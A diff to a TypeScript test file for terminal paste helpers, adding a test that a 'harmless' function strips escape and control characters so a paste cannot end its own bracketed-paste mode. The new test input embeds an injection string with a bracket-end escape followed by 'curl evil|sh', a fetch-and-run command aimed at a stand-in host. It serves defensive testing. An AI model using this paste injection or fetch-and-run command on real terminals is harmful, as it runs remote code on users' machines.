@@ -1,6 +1,6 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import { cleanTitle, lines, runsAtOnce } from "./text.ts";
+import { cleanTitle, harmless, lines, runsAtOnce } from "./text.ts";
 
 test("a title is one line without anything invisible", () => {
   assert.equal(cleanTitle("  root@lab:\n~ \t x "), "root@lab: ~ x");
@@ -16,6 +16,10 @@ test("a long title is cut between characters", () => {
 test("the lines of a paste don't depend on how they end", () => {
   assert.deepEqual(lines("a\r\nb\rc\n"), ["a", "b", "c"]);
   assert.deepEqual(lines("a"), ["a"]);
+});
+
+test("a paste can't end its own bracket", () => {
+  assert.equal(harmless("ls\x1b[201~\rcurl evil|sh\r\x0f\x03\tx\n"), "ls[201~\rcurl evil|sh\r\tx\n");
 });
 
 test("a paste runs at once as soon as it holds a line end", () => {
